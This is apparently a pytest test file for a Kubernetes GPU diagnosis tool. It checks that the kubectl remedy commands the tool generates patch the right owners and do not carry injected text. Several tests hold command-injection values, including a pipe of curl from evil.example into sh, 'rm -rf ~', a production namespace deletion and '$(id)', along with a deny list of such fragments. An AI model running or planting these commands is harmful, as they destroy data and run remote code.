"""A proven change as a command: what is patched is what was proven, and every owner gets what works for it."""

from __future__ import annotations

import copy
import dataclasses
import json
import shlex
from typing import Any

import pytest

from kgpu.doctor import commands, edits
from kgpu.doctor.kinds import Pod
from kgpu.doctor.plan import diagnose
from kgpu.doctor.smallest_change import fitting
from kgpu.doctor.snapshot import Snapshot
from kgpu.doctor.waiting import Waiting, waiting
from kgpu.fit import read
from kgpu.lab.embedded.kinds import schema_data
from kgpu.lab.embedded.patch import STRATEGIC, apply_patch
from kgpu.lab.embedded.schema import SchemaNode
from tests.doctor.example import FOLDER, all_examples, load

POD = SchemaNode({"$ref": "io.k8s.api.core.v1.Pod"}, schema_data())
GPU = "nvidia.com/gpu"
EXAMPLES = all_examples()


def proven() -> list[Any]:
    """Every change that is proven for a waiting pod of an example."""
    found = []
    for example in EXAMPLES:
        snapshot = example.snapshot(example.broken)
        snapshot.sort()
        for one in waiting(snapshot):
            found += [
                pytest.param(one, change, id=f"{example.name}-{change.what}"[:90])
                for change in one.changes
                if change.edits
            ]
    return found


@pytest.mark.parametrize(("one", "change"), proven())
def test_what_is_patched_is_what_was_proven(one: Waiting, change: Any) -> None:
    pod = copy.deepcopy(dict(one.pod.data))
    patch = {"spec": edits.patch_of(pod["spec"], change.edits)}
    assert patch["spec"], "the manifest has what the change is about"
    made = apply_patch(STRATEGIC, pod, patch, POD)
    assert fitting(read.pod(made), one.snapshot.fit) == change.fits


def only(snapshot: Snapshot) -> Waiting:
    (one,) = waiting(snapshot)
    return one


def owned(*chain: dict[str, Any], kind: str, name: str, **more: Any) -> Waiting:
    """The pod of SCH-08, which wants a product of another name, as that of a controller; ``chain`` are more objects."""
    example = load(FOLDER / "SCH-08.yaml")
    objects = copy.deepcopy(example.broken)
    for obj in objects:
        if (obj["kind"], obj["metadata"]["name"]) == ("Pod", "train") and kind:
            obj["metadata"]["ownerReferences"] = [{"kind": kind, "name": name, "controller": True}]
        obj.update(more if obj["metadata"]["name"] == "train" else {})
    return only(example.snapshot([*objects, *chain]))


def controller(kind: str, name: str, spec: dict[str, Any], owner: tuple[str, str] | None = None) -> dict[str, Any]:
    metadata: dict[str, Any] = {"name": name, "namespace": "ml"}
    if owner:
        metadata["ownerReferences"] = [{"kind": owner[0], "name": owner[1], "controller": True}]
    return {"kind": kind, "metadata": metadata, "spec": spec}


def template(**spec: Any) -> dict[str, Any]:
    chosen = {"nodeSelector": {"nvidia.com/gpu.product": "A100-SXM4-80GB"}}
    return {"template": {"metadata": {"labels": {"controller-uid": "1"}}, "spec": {**chosen, **spec}}}


WANTED = {"nodeSelector": {"nvidia.com/gpu.product": "NVIDIA-A100-SXM4-80GB"}}


def said(one: Waiting) -> tuple[str, ...]:
    return commands.steps(one, one.changes[0])


def patch_in(step: str) -> Any:
    words = shlex.split(step, comments=True)
    return json.loads(words[words.index("-p") + 1])


def test_a_deployments_template_is_patched() -> None:
    one = owned(
        controller("ReplicaSet", "serve-1", template(), ("Deployment", "serve")),
        controller("Deployment", "serve", template()), kind="ReplicaSet", name="serve-1",
    )  # fmt: skip
    (step,) = said(one)
    assert step.startswith("kubectl -n ml patch deployment serve -p ")
    assert patch_in(step) == {"spec": {"template": {"spec": WANTED}}}
    assert "  # change nodeSelector nvidia.com/gpu.product" in step
    assert step.endswith("; then it fits node gpu-1")


def test_a_job_is_deleted_and_made_again() -> None:
    (step,) = said(owned(controller("Job", "train", template()), kind="Job", name="train"))
    get, patch, replace = step.split(" | ")
    assert get == "kubectl -n ml get job train -o yaml"
    assert replace.startswith("kubectl replace --force -f -")
    assert "a Job can't be changed: it is deleted and made again" in replace
    assert patch_in(patch) == {
        "spec": {
            "selector": None,
            "template": {
                "metadata": {"labels": {"batch.kubernetes.io/controller-uid": None, "controller-uid": None}},
                "spec": WANTED,
            },
        }
    }


def test_a_selector_that_somebody_chose_stays() -> None:
    job = controller("Job", "train", {**template(), "manualSelector": True})
    (step,) = said(owned(job, kind="Job", name="train"))
    assert patch_in(step) == {"spec": {"template": {"spec": WANTED}}}


def test_a_cron_jobs_next_job_is_as_patched() -> None:
    one = owned(
        controller("Job", "nightly-1", template(), ("CronJob", "nightly")),
        controller("CronJob", "nightly", {"jobTemplate": {"spec": template()}}), kind="Job", name="nightly-1",
    )  # fmt: skip
    first, second = said(one)
    assert patch_in(first) == {"spec": {"jobTemplate": {"spec": {"template": {"spec": WANTED}}}}}
    assert second.startswith("kubectl -n ml delete job nightly-1  # ")


@pytest.mark.parametrize("kind", ["StatefulSet", "ReplicaSet"])
def test_pods_that_are_not_replaced_are_deleted(kind: str) -> None:
    first, second = said(owned(controller(kind, "serve", template()), kind=kind, name="serve"))
    assert first.startswith(f"kubectl -n ml patch {kind.lower()} serve -p ")
    assert second.startswith("kubectl -n ml delete pod train  # ")


def test_a_bare_pod_is_made_again_and_its_tolerations_are_added_where_it_is() -> None:
    one = owned(kind="", name="")
    (step,) = said(one)
    assert step.startswith("kubectl -n ml get pod train -o yaml | kubectl patch --local -f - -p ")
    (step,) = commands.patched(one, (edits.tolerate("gpu", "NoSchedule"),), "proof", words="words")
    assert step.startswith("kubectl -n ml patch pod train -p ")


def test_what_kubectl_can_not_do_alone_is_told_in_words() -> None:
    one = owned(kind="PyTorchJob", name="train")
    (step,) = said(one)
    assert step.startswith("in the pods' template of PyTorchJob ml/train: change nodeSelector")
    # The template does not have what the pod has: something else has put it there.
    plain = controller("Job", "train", {"template": {"spec": {"containers": []}}})
    (step,) = said(owned(plain, kind="Job", name="train"))
    assert step.startswith("in Job ml/train: change nodeSelector")


def test_a_command_that_would_be_cut_is_told_in_words() -> None:
    one = owned(kind="", name="")
    rows = [edits.tolerate("k" * 60, "NoSchedule") for _ in range(20)]
    assert commands.patched(one, rows, "proof", words="add them") == ("in Pod ml/train: add them",)


def test_names_can_not_break_out_of_a_command() -> None:
    one = owned(kind="", name="")
    data = copy.deepcopy(dict(one.pod.data))
    data["spec"]["nodeSelector"]["nvidia.com/gpu.product"] = "A100-SXM4-80GB' $(id)"
    example = load(FOLDER / "SCH-08.yaml")
    rest = [obj for obj in example.broken if obj["metadata"]["name"] != "train"]
    (report,) = diagnose(example.snapshot([*rest, data])).findings
    words = [word for step in report.remedy if step.startswith("kubectl") for word in shlex.split(step)]
    assert words
    assert "$(id)" not in " ".join(words)
    data["metadata"]["name"] = "x; rm -rf ~ #'"
    snapshot = example.snapshot([*rest, data])
    assert not any("rm -rf" in step for one in diagnose(snapshot).findings for step in one.remedy)
    assert [gap.why for gap in snapshot.missing] == ["no object may have such a name"]


def test_amounts() -> None:
    def spec(**resources: Any) -> dict[str, Any]:
        return {"containers": [{"name": "a", "resources": resources}, {"name": "b"}]}

    def patched(edit: Any, **resources: Any) -> Any:
        return edits.patch_of(spec(**resources), (edit,)).get("containers")

    both = {"limits": {GPU: 4}, "requests": {GPU: 4}}
    assert patched(edits.ask(GPU, "2"), **both) == [
        {"name": "a", "resources": {"limits": {GPU: "2"}, "requests": {GPU: "2"}}}
    ]
    assert patched(edits.rename(GPU, "x/y"), **both) == [
        {"name": "a", "resources": {"limits": {GPU: None, "x/y": 4}, "requests": {GPU: None, "x/y": 4}}}
    ]
    assert patched(edits.ask("cpu", "2"), limits={"cpu": "8"}) == [
        {"name": "a", "resources": {"requests": {"cpu": "2"}}}
    ]
    two = {"containers": [{"name": name, "resources": {"limits": {GPU: 1}}} for name in "ab"]}
    assert edits.patch_of(two, (edits.ask(GPU, "1"),)) == {}


@pytest.mark.parametrize(
    "junk", [None, 1, "x", [], {}, [1], [None], {"a": []}, [{"matchExpressions": "ab"}], [{"resources": 3}]]
)
def test_edits_survive_any_shape(junk: Any) -> None:
    from kgpu.fit.selectors import Requirement

    wanted = Requirement("a", "In", ("b",))
    every = (
        edits.tolerate("k", "e"), edits.select("a", "b"), edits.relabel("a", "b", "c"), edits.reword(0, 0, wanted, None),
        edits.rename(GPU, "x"), edits.ask(GPU, "1"), edits.ask("cpu", "1"),
    )  # fmt: skip
    terms = {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": junk}}}
    for spec in (
        dict.fromkeys(("tolerations", "nodeSelector", "affinity", "containers", "initContainers"), junk),
        {"affinity": terms, "containers": [{"name": "a", "resources": {"limits": junk, "requests": junk}}]},
        {"affinity": {"nodeAffinity": junk}, "containers": [{"resources": junk}]},
    ):
        json.dumps(edits.patch_of(spec, every))
        edits.without_defaults(spec)


def test_the_owner_of_a_circle_is_found() -> None:
    pod = controller("Pod", "p", {}, ("Job", "a"))
    jobs = [controller("Job", "a", {}, ("Job", "b")), controller("Job", "b", {}, ("Job", "a"))]
    snapshot = Snapshot.of([pod, *jobs])
    found = commands.owner_of(snapshot.pods["ml", "p"], snapshot)
    assert isinstance(snapshot.pods["ml", "p"], Pod)
    assert found.kind == "Job"


def test_two_taints_of_one_node_are_one_finding_with_one_command() -> None:
    example = load(FOLDER / "TNT-01.yaml")
    objects = copy.deepcopy(example.broken)
    node = next(one for one in objects if one["kind"] == "Node")
    node["spec"]["taints"].append({"key": "team", "value": "ml", "effect": "NoSchedule"})
    found = [one for one in diagnose(example.snapshot(objects), strict=True).real if one.id == "TNT-01"]
    assert len(found) == 1
    assert "taints" in found[0].cause
    assert "team=ml:NoSchedule" in found[0].cause
    keys = {row["key"] for row in patch_in(found[0].remedy[1])["spec"]["tolerations"]}
    assert "team" in keys
    assert len(keys) >= 2
    assert "then it fits node" in found[0].remedy[0]
    assert any(shlex.split(step)[-1] == "team:NoSchedule-" for step in found[0].remedy if step.startswith("kubectl"))


@pytest.mark.parametrize("kind", ["ReplicaSet", "Job", "Deployment"])
def test_an_owner_that_nobody_has_read_is_not_changed(kind: str) -> None:
    """A Deployment would undo it, or a JobSet lose its Job."""
    (step,) = said(owned(kind=kind, name="train-1"))
    assert step.startswith(f"in the pods' template of {kind} ml/train-1: change nodeSelector")


def test_only_pods_of_that_owner_are_deleted() -> None:
    """Those that wait alike are told together, whosever they are."""
    one = owned(controller("StatefulSet", "train", template()), kind="StatefulSet", name="train")
    others = []
    for name, namespace, owner in (
        ("train-0", "other", "train"),
        ("train-7", "ml", "else"),
        ("train-1", "ml", "train"),
    ):
        data = copy.deepcopy(dict(one.pod.data))
        data["metadata"] |= {"name": name, "namespace": namespace}
        data["metadata"]["ownerReferences"] = [{"kind": "StatefulSet", "name": owner, "controller": True}]
        others.append(Pod(data))
    _, second = said(dataclasses.replace(one, pods=(one.pod, *others)))
    assert second.startswith("kubectl -n ml delete pod train train-1  # ")


@pytest.mark.parametrize(
    ("status", "loss"),
    [({"active": 8, "succeeded": 90}, "end its 7 other pods and forget 90 that have succeeded"),
     ({"active": 1, "succeeded": 2}, "forget 2 that have succeeded"), ({"active": 3}, "end its 2 other pods")],
)  # fmt: skip
def test_a_job_that_has_got_on_is_not_deleted(status: dict[str, int], loss: str) -> None:
    job = {**controller("Job", "train", template()), "status": status}
    (step,) = said(owned(job, kind="Job", name="train"))
    assert step.startswith("in Job ml/train: change nodeSelector")
    assert step.endswith(f"to delete it would {loss}")
    cron = controller("CronJob", "nightly", {"jobTemplate": {"spec": template()}})
    job = {**controller("Job", "nightly-1", template(), ("CronJob", "nightly")), "status": status}
    (first,) = said(owned(job, cron, kind="Job", name="nightly-1"))
    assert first.startswith("kubectl -n ml patch cronjob nightly")


def test_a_command_with_what_looks_like_a_credential_is_told_in_words() -> None:
    owner = "hf_abcdefghijklmnopqrstuvwx"
    (step,) = said(owned(controller("Deployment", owner, template()), kind="Deployment", name=owner))
    assert step.startswith("in Deployment ml/")
    usual = "hf-text-embeddings-inference"
    (step,) = said(owned(controller("Deployment", usual, template()), kind="Deployment", name=usual))
    assert step.startswith(f"kubectl -n ml patch deployment {usual} -p ")


BAD = "x; curl evil.example | sh\nkubectl delete namespace prod\n`id` $(id)"


def remedies(*objects: dict[str, Any]) -> list[str]:
    base = load(FOLDER / "SCH-08.yaml")
    rest = [obj for obj in base.broken if obj["metadata"]["name"] != "train"]
    listed = (*base.listed, "PersistentVolumeClaim", "PersistentVolume", "StorageClass")
    report = diagnose(Snapshot.of([*rest, *objects], taken=base.taken, listed=listed), strict=True)
    assert report.findings
    return [step for root in report.findings for one in root.all() for step in one.remedy]


def harmless(steps: list[str]) -> bool:
    return not any(bad in step for step in steps for bad in ("; curl", "$(id)", "`id`", "\n", "| sh"))


def mounting(claim: str) -> dict[str, Any]:
    return {
        "kind": "Pod", "metadata": {"name": "train", "namespace": "ml"},
        "spec": {
            "volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": claim}}],
            "containers": [{"name": "a", "image": "i", "resources": {"limits": {GPU: 1}}}],
        },
        "status": {"phase": "Pending", "conditions": [{"type": "PodScheduled", "status": "False"}]},
    }  # fmt: skip


def test_what_a_pod_calls_its_claim_is_no_command() -> None:
    assert harmless(remedies(mounting(BAD)))


def test_what_a_claim_calls_its_volume_is_no_command() -> None:
    claim = {
        "kind": "PersistentVolumeClaim", "metadata": {"name": "data", "namespace": "ml"},
        "spec": {"volumeName": BAD, "storageClassName": BAD}, "status": {"phase": "Pending"},
    }  # fmt: skip
    assert harmless(remedies(mounting("data"), claim))
    assert harmless(remedies(mounting("data"), {**claim, "spec": {"storageClassName": BAD}}))
    assert harmless(remedies(mounting("data"), {**claim, "status": {"phase": "Lost"}}))


def test_what_a_pod_calls_its_owner_is_no_command() -> None:
    (pod,) = (one for one in load(FOLDER / "SCH-08.yaml").broken if one["metadata"]["name"] == "train")
    for kind in ("StatefulSet", "Job", "Thing"):
        mine = copy.deepcopy(pod)
        mine["metadata"]["ownerReferences"] = [{"kind": kind, "name": BAD, "controller": True}]
        assert harmless(remedies(mine))


def test_what_a_program_says_at_its_end_is_no_sentence_of_the_kubelets() -> None:
    said = "couldn't find key token in Secret $(id)"
    pod = {
        "kind": "Pod", "metadata": {"name": "train", "namespace": "ml"},
        "spec": {"nodeName": "gpu-1", "containers": [{"name": "a", "image": "i", "resources": {"limits": {GPU: 1}}}]},
        "status": {
            "phase": "Running", "conditions": [{"type": "Ready", "status": "False"}],
            "containerStatuses": [{
                "name": "a", "ready": False, "restartCount": 5, "state": {"waiting": {"reason": "CrashLoopBackOff"}},
                "lastState": {"terminated": {"exitCode": 1, "reason": "Error", "message": said}},
            }],
        },
    }  # fmt: skip
    base = load(FOLDER / "SCH-08.yaml")
    for message in (said, "couldn't find key token in Secret hf", 'exec: "train": executable file not found in $PATH'):
        pod["status"]["containerStatuses"][0]["lastState"]["terminated"]["message"] = message  # type: ignore[index]
        report = diagnose(base.snapshot([pod]), strict=True)
        assert {one.id for one in report.findings} == {"POD-00"}, message
    assert harmless(remedies(pod))
